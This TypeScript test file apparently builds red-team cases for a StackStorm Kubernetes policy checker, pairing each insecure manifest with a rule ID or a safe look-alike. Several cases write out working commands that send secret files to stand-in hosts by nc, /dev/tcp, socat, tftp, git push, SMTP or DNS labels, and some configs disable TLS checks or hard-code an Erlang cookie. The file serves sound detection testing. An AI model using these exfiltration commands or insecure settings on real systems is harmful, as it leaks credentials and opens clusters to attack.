/**
 * The eleventh red team's exfiltration, log, st2-config, supply-chain and
 * forwarder holes (docs/red-team.md, "Eleventh attacker", egress piece),
 * rewritten with variants and safe look-alikes: a Secret's file or variable
 * sent by bash's /dev/tcp, ftpput, tftp, socat, git push, Python's smtplib or
 * DNS labels, read from a neighbour container through /proc/<pid>/root
 * (ST2-SEC-016); printed by dd or Python (ST2-SEC-017); st2's API URL for
 * actions and the st2 CLI's endpoints outside the cluster (ST2-SEC-025); a
 * pack index someone else serves (ST2-SEC-026); pip_opts over plain http and
 * git without TLS checks (ST2-SEC-024); images from a publisher the policy
 * does not list given a store's or st2's secrets or code (ST2-HRD-027); a
 * store user's password decoded from a ConfigMap or an inline blob and a
 * literal Erlang cookie (ST2-SEC-013); Caddy forwarding to a store behind a
 * public LoadBalancer (ST2-EXP-006).
 */
import type { RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { SPEC, DEPLOY, STS, patch, userConf, type Json } from './targets.js';

const LIM = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '200m', memory: '128Mi' } };
const SC = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };
/** st2's own secrets: its config's passwords and the datastore key. */
const MOUNTS = [
  { name: 'cfg', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true },
  { name: 'key', mountPath: '/etc/st2/keys', readOnly: true },
];
const VOLUMES = [
  { name: 'cfg', secret: { secretName: 'st2-config-secrets' } },
  { name: 'key', secret: { secretName: 'st2-datastore-crypto-key', items: [{ key: 'datastore_crypto_key', path: 'datastore_key.json' }] } },
];

/** A nightly CronJob whose one container runs a script with st2's secrets mounted. */
const cron = (image: string, script: string): Json => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'f12-nightly' },
  spec: {
    schedule: '40 2 * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            restartPolicy: 'OnFailure',
            securityContext: { runAsNonRoot: true, runAsUser: 1000, runAsGroup: 1000, seccompProfile: { type: 'RuntimeDefault' } },
            containers: [{ name: 'task', image, command: ['sh', '-c'], args: [script], volumeMounts: MOUNTS, resources: LIM, securityContext: SC }],
            volumes: VOLUMES,
          },
        },
      },
    },
  },
});
const run = (image: string, script: string): CaseBody => ({ resources: [cron(image, script)] });

/** A sidecar beside st2api (which mounts the datastore key), sharing its process namespace or not. */
const sidecar = (script: string, share: boolean): CaseBody => ({
  patches: [
    patch(
      DEPLOY('st2api'),
      ...(share ? [{ op: 'add', path: `${SPEC}/shareProcessNamespace`, value: true }] : []),
      { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'probe', image: 'busybox:1.36.1', command: ['sh', '-c', script], resources: LIM, securityContext: { ...SC, runAsNonRoot: true, runAsUser: 1000 } } },
    ),
  ],
});

/** st2.user.conf: the base's override plus these lines. */
const conf = (...lines: string[]): CaseBody => ({ patches: [userConf(...lines)] });
/** Env of a Deployment's first container, added after what it has. */
const env = (name: string, vars: Record<string, string>): CaseBody => ({
  patches: [patch(DEPLOY(name), ...Object.entries(vars).map(([n, value]) => ({ op: 'add', path: `${SPEC}/containers/0/env/-`, value: { name: n, value } })))],
});
const envNew = (name: string, vars: Record<string, string>): CaseBody => ({
  patches: [patch(DEPLOY(name), { op: 'add', path: `${SPEC}/containers/0/env`, value: Object.entries(vars).map(([n, value]) => ({ name: n, value })) })],
});

/** A Job adding a RabbitMQ administrator whose password a script fills from `assign`: files under /cfg are a ConfigMap's (git), under /store the rabbitmq Secret's (the store). */
const decodedUser = (file: string, assign: string): CaseBody => ({
  resources: [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'f12-mq-user' }, data: { [file]: 'begin 644 pw\n`\nend\n' } },
    {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'f12-mq-user' },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            securityContext: { runAsNonRoot: true, runAsUser: 999, seccompProfile: { type: 'RuntimeDefault' } },
            containers: [
              {
                name: 'add',
                image: 'rabbitmq:3.12.14',
                command: ['sh', '-c', `${assign}; rabbitmqctl -n rabbit@rabbitmq-0.rabbitmq-discovery add_user ops "$PW" && rabbitmqctl -n rabbit@rabbitmq-0.rabbitmq-discovery set_user_tags ops monitoring`],
                env: [{ name: 'RABBITMQ_ERLANG_COOKIE', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-erlang-cookie' } } }],
                volumeMounts: [
                  { name: 'cfg', mountPath: '/cfg', readOnly: true },
                  { name: 'store', mountPath: '/store', readOnly: true },
                ],
                resources: LIM,
                securityContext: SC,
              },
            ],
            volumes: [
              { name: 'cfg', configMap: { name: 'f12-mq-user' } },
              { name: 'store', secret: { secretName: 'rabbitmq' } },
            ],
          },
        },
      },
    },
  ],
});

/** Caddy behind a Service of this type, proxying as its Caddyfile says. */
const CADDY_RULE = 'ST2-EXP-006';
const caddy = (name: string, caddyfile: string, type: string): CaseBody => ({
  resources: [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data: { Caddyfile: caddyfile } },
    {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name, labels: { app: name } },
      spec: {
        replicas: 2,
        selector: { matchLabels: { app: name } },
        template: {
          metadata: { labels: { app: name } },
          spec: {
            securityContext: { runAsNonRoot: true, runAsUser: 101, seccompProfile: { type: 'RuntimeDefault' } },
            containers: [{ name: 'caddy', image: 'caddy:2.8.4', command: ['caddy', 'run', '--config', '/etc/caddy/Caddyfile', '--adapter', 'caddyfile'], ports: [{ containerPort: 8080 }], volumeMounts: [{ name: 'c', mountPath: '/etc/caddy' }], resources: LIM, securityContext: SC }],
            volumes: [{ name: 'c', configMap: { name } }],
          },
        },
      },
    },
    { apiVersion: 'v1', kind: 'Service', metadata: { name }, spec: { type, selector: { app: name }, ports: [{ port: 80, targetPort: 8080 }] } },
  ],
});

export function fresh12EgressCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f12e-${id}`, cls, rule, body));
  };

  // --- a Secret sent out by a socket, a file-transfer client, git, mail or DNS (ST2-SEC-016) ------------
  add('devtcp-nested-bash', 'secrets', 'ST2-SEC-016', run('bash:5.2.37', `bash -c 'exec 3<>/dev/tcp/203.0.113.44/8443; cat /etc/st2/keys/datastore_key.json >&3'`));
  add('devtcp-udp-config', 'secrets', 'ST2-SEC-016', run('bash:5.2.37', 'base64 /etc/st2/st2.secrets.conf > /dev/udp/collector.example.org/514'));
  add('ftpput-key', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'busybox ftpput -u guest -p guest -P 2121 ftp.example.net up/key.json /etc/st2/keys/datastore_key.json'));
  add('tftp-put-config', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'tftp -l /etc/st2/st2.secrets.conf -r c.txt -p 198.51.100.61 69'));
  add('socat-openssl-out', 'secrets', 'ST2-SEC-016', run('alpine/socat:1.8.0.0', 'socat -u OPEN:/etc/st2/keys/datastore_key.json OPENSSL:sink.example.io:443,verify=0'));
  add('nc-to-ipv4', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'cat /etc/st2/st2.secrets.conf | nc -w 3 198.51.100.61 4000'));
  add('git-push-added-remote', 'secrets', 'ST2-SEC-016', run('alpine/git:2.45.2', 'git init /tmp/r && install -m 600 /etc/st2/st2.secrets.conf /tmp/r/c && cd /tmp/r && git remote add o https://gitlab.example.com/ops/drop.git && git add . && git -c user.name=x -c user.email=x@y commit -qm c && git push o HEAD:main'));
  add('python-smtp-ssl', 'secrets', 'ST2-SEC-016', run('python:3.12.7-slim', `python3 -c "import smtplib; s=smtplib.SMTP_SSL('smtp.mailer.example.com', 465); s.sendmail('a@x', ['b@example.com'], open('/etc/st2/keys/datastore_key.json').read())"`));
  add('dig-labels-from-substitution', 'secrets', 'ST2-SEC-016', run('alpine:3.20.3', 'for l in $(xxd -p /etc/st2/keys/datastore_key.json); do dig +short "$l.q.example.org"; done'));
  add('proc-root-neighbour', 'secrets', 'ST2-SEC-016', sidecar('sleep 20; for p in /proc/[0-9]*; do cat $p/root/etc/st2/keys/datastore_key.json 2>/dev/null; done | nc 192.0.2.77 9000; sleep 3600', true));
  add('safe-socat-to-rabbitmq', 'secrets', undefined, run('alpine/socat:1.8.0.0', 'socat -u OPEN:/etc/st2/st2.secrets.conf TCP:rabbitmq.st2-prod.svc.cluster.local:5672 || true'));
  add('safe-git-push-in-cluster', 'secrets', undefined, run('alpine/git:2.45.2', 'git clone http://gitea.tools.svc.cluster.local:3000/ops/st2-config.git /tmp/r && cp /etc/st2/st2.secrets.conf /tmp/r/ && cd /tmp/r && git add -A && git -c user.email=x@y commit -qm c && git push'));
  add('safe-git-push-outside-no-secret', 'secrets', undefined, run('alpine/git:2.45.2', 'git clone https://github.com/acme-ops/st2-status.git /tmp/r && date > /tmp/r/last-run && cd /tmp/r && git add -A && git -c user.email=x@y commit -qm c && git push'));
  add('safe-dns-fixed-name', 'secrets', undefined, run('busybox:1.36.1', 'nslookup api.github.com && sha256sum /etc/st2/keys/datastore_key.json'));
  add('safe-devtcp-probe-internal', 'secrets', undefined, run('bash:5.2.37', `bash -c 'until echo > /dev/tcp/mongodb-0.mongodb/27017; do sleep 2; done'; sha256sum /etc/st2/st2.secrets.conf`));
  add('safe-python-smtp-notice', 'secrets', undefined, run('python:3.12.7-slim', `python3 -c "import smtplib; smtplib.SMTP('smtp.mailer.example.com', 25).sendmail('st2@x', ['ops@example.com'], 'nightly check done')"`));
  add('safe-proc-root-no-share', 'secrets', undefined, sidecar('sleep 20; for p in /proc/[0-9]*; do cat $p/root/etc/hostname 2>/dev/null; done | nc 192.0.2.77 9000; sleep 3600', false));

  // --- a Secret printed into the pod log (ST2-SEC-017) ----------------------------------------------
  add('dd-config-to-log', 'secrets', 'ST2-SEC-017', run('busybox:1.36.1', 'dd if=/etc/st2/st2.secrets.conf bs=4k status=none'));
  add('python-print-key', 'secrets', 'ST2-SEC-017', run('python:3.12.7-slim', `python3 -c "import sys; sys.stdout.write(open('/etc/st2/keys/datastore_key.json').read())"`));
  add('safe-dd-to-file', 'secrets', undefined, run('busybox:1.36.1', 'dd if=/etc/st2/st2.secrets.conf of=/tmp/c.bak status=none && sha256sum /tmp/c.bak'));
  add('safe-python-print-digest', 'secrets', undefined, run('python:3.12.7-slim', `python3 -c "import hashlib; hashlib.sha256(open('/etc/st2/keys/datastore_key.json','rb').read()).hexdigest()" && echo checked`));

  // --- st2's tokens and logins to an outside endpoint (ST2-SEC-025) ----------------------------------
  add('api-url-outside-https', 'st2-config', 'ST2-SEC-025', conf('[auth]', 'api_url = https://api.st2-cloud.example.net/'));
  add('api-url-public-ip-http', 'st2-config', 'ST2-SEC-025', conf('[auth]', 'api_url = http://203.0.113.20:9101'));
  add('api-url-own-host-plain-http', 'st2-config', 'ST2-SEC-025', conf('[auth]', 'api_url = http://st2.example.com/api'));
  add('client-api-url-outside', 'delivery', 'ST2-SEC-025', env('st2client', { ST2_API_URL: 'http://192.0.2.15:9101/' }));
  add('client-auth-url-outside', 'delivery', 'ST2-SEC-025', env('st2client', { ST2_AUTH_URL: 'https://login.st2-portal.example.org/' }));
  add('client-base-url-outside', 'delivery', 'ST2-SEC-025', env('st2client', { ST2_BASE_URL: 'https://st2.partner.example.io' }));
  add('safe-api-url-service-fqdn', 'st2-config', undefined, conf('[auth]', 'api_url = http://st2api.st2-prod.svc.cluster.local:9101/'));
  add('safe-api-url-service-namespace', 'st2-config', undefined, conf('[auth]', 'api_url = http://st2api.st2-prod:9101'));
  add('safe-api-url-own-host-https', 'st2-config', undefined, conf('[auth]', 'api_url = https://st2.example.com/api/'));
  add('safe-client-api-url-service', 'delivery', undefined, env('st2client', { ST2_API_URL: 'http://st2api:9101/', ST2_AUTH_URL: 'http://st2auth:9100/' }));

  // --- a pack index or pack requirements from someone else (ST2-SEC-026, ST2-SEC-024) ----------------
  add('index-url-other-host', 'delivery', 'ST2-SEC-026', conf('[content]', 'index_url = https://packs.st2-community.example.net/index.json'));
  add('index-url-official-plus-other', 'delivery', 'ST2-SEC-026', conf('[content]', 'index_url = https://index.stackstorm.org/v1/index.json,http://198.51.100.9/index.json'));
  add('pip-opts-extra-index-http', 'delivery', 'ST2-SEC-024', conf('[actionrunner]', 'pip_opts = --extra-index-url,http://pypi.example.org/simple'));
  add('pip-opts-trusted-host', 'delivery', 'ST2-SEC-024', conf('[actionrunner]', 'pip_opts = -i,https://pypi.example.org/simple,--trusted-host,pypi.example.org'));
  add('git-ssl-no-verify-runner', 'delivery', 'ST2-SEC-024', envNew('st2actionrunner', { GIT_SSL_NO_VERIFY: '1' }));
  add('git-config-env-sslverify', 'delivery', 'ST2-SEC-024', envNew('st2actionrunner', { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'http.sslVerify', GIT_CONFIG_VALUE_0: 'false' }));
  add('git-config-command-sslverify', 'delivery', 'ST2-SEC-024', run('alpine/git:2.45.2', 'git config --global http.sslVerify false && git clone https://git.example.com/ops/tools.git /tmp/t'));
  add('safe-index-url-official', 'delivery', undefined, conf('[content]', 'index_url = https://index.stackstorm.org/v1/index.json'));
  add('safe-index-url-in-cluster', 'delivery', undefined, conf('[content]', 'index_url = http://pack-index.tools.svc.cluster.local/index.json'));
  add('pip-opts-index-unlisted', 'delivery', 'ST2-SEC-024', conf('[actionrunner]', 'pip_opts = --index-url,https://pypi.example.org/simple'));
  add('safe-pip-opts-pypi-index', 'delivery', undefined, conf('[actionrunner]', 'pip_opts = --index-url,https://pypi.org/simple,--no-cache-dir'));
  add('safe-git-sslverify-true', 'delivery', undefined, envNew('st2actionrunner', { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'http.sslVerify', GIT_CONFIG_VALUE_0: 'true' }));

  // --- images from an unlisted publisher with st2's or a store's secrets or code (ST2-HRD-027) -------
  add('store-image-stranger', 'delivery', 'ST2-HRD-027', { patches: [patch(STS('mongodb'), { op: 'replace', path: `${SPEC}/containers/0/image`, value: 'docker.io/mongo-builds/mongo:4.4.29' })] });
  add('store-init-stranger-with-cookie', 'delivery', 'ST2-HRD-027', { patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'tune', image: 'quay.io/perf-tools/sysctl:1.2', command: ['/tune'], env: [{ name: 'C', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-erlang-cookie' } } }], resources: LIM, securityContext: SC } })] });
  add('packs-init-stranger', 'delivery', 'ST2-HRD-027', { patches: [patch(DEPLOY('st2sensorcontainer'), { op: 'replace', path: `${SPEC}/initContainers/0/image`, value: 'ghcr.io/acme-dev/st2-packs:2.0.1' })] });
  add('safe-store-image-percona', 'delivery', undefined, { patches: [patch(STS('mongodb'), { op: 'replace', path: `${SPEC}/containers/0/image`, value: 'percona/percona-server-mongodb:4.4.29-28' })] });
  add('safe-store-init-official-with-cookie', 'delivery', undefined, { patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'tune', image: 'busybox:1.36.1', command: ['sh', '-c', 'test -n "$C"'], env: [{ name: 'C', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-erlang-cookie' } } }], resources: LIM, securityContext: SC } })] });
  add('safe-packs-init-stackstorm-registry-form', 'delivery', undefined, { patches: [patch(DEPLOY('st2sensorcontainer'), { op: 'replace', path: `${SPEC}/initContainers/0/image`, value: 'docker.io/stackstorm/st2actionrunner:3.8.1' })] });
  add('safe-sidecar-stranger-no-secret', 'delivery', undefined, { patches: [patch(DEPLOY('st2api'), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'statsd', image: 'prom/statsd-exporter:v0.27.1', resources: LIM, securityContext: SC } })] });

  // --- committed secrets: a store user's password decoded from git, a literal Erlang cookie (ST2-SEC-013)
  add('rabbit-user-uudecoded', 'secrets', 'ST2-SEC-013', decodedUser('pw.uu', 'PW=$(uudecode -o /dev/stdout /cfg/pw.uu)'));
  add('rabbit-user-lzma-inline', 'secrets', 'ST2-SEC-013', decodedUser('note', "PW=$(echo XQAAgAD//////////wA5GkqG | base64 -d | unlzma)"));
  add('erlang-cookie-literal', 'secrets', 'ST2-SEC-013', { patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/env/-`, value: { name: 'RABBITMQ_ERLANG_COOKIE', value: 'Vb3k9QmZtR7yWcL2pXs8HdJf4GaN6uEq' } })] });
  add('safe-rabbit-user-from-secret', 'secrets', undefined, decodedUser('pw', 'PW=$(cat /store/rabbitmq-password)'));
  add('safe-erlang-cookie-from-env-ref', 'secrets', undefined, { patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/env/-`, value: { name: 'RABBITMQ_ERLANG_COOKIE', value: '$(RABBITMQ_ERLANG_COOKIE_FROM_STORE)' } })] });

  // --- Caddy forwarding to a store behind a public LoadBalancer (forwarders) -------------------------
  add('caddy-rabbit-management-lb', 'exposure', CADDY_RULE, caddy('rabbit-ui', ':8080 {\n  reverse_proxy rabbitmq:15672\n}\n', 'LoadBalancer'));
  add('caddy-block-to-mongodb-lb', 'exposure', CADDY_RULE, caddy('mongo-gw', ':8080 {\n  reverse_proxy /db/* {\n    to mongodb.st2-prod.svc.cluster.local:27017\n  }\n}\n', 'LoadBalancer'));
  add('safe-caddy-grafana-lb', 'exposure', undefined, caddy('grafana-gw', ':8080 {\n  reverse_proxy grafana.monitoring.svc:3000\n}\n', 'LoadBalancer'));

  return cases;
}
